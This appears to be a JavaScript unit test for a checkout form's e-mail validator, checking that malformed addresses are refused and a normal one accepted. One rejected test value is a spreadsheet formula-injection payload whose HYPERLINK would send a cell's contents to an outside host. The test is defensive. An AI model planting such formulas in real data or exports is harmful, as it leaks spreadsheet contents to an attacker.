import { EMPTY_CHECKOUT, validateCheckout } from './checkout-rules';

const filled = { ...EMPTY_CHECKOUT, name: 'Amani Keza', phone: '+250 788 555 000', country: 'Rwanda', shippingAddress: 'KN 5 Rd, Kigali' };

describe('the checkout form applies the one e-mail rule', () => {
  it.each(['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c', 'amani@example', 'amani example@org.rw'])('refuses %s before sending', (email) => {
    expect(validateCheckout({ ...filled, email }).email).toBe('Enter a valid e-mail address.');
  });

  it('accepts an ordinary address, spaces around it ignored', () => {
    expect(validateCheckout({ ...filled, email: ' amani@example.org ' })).toEqual({});
  });
});
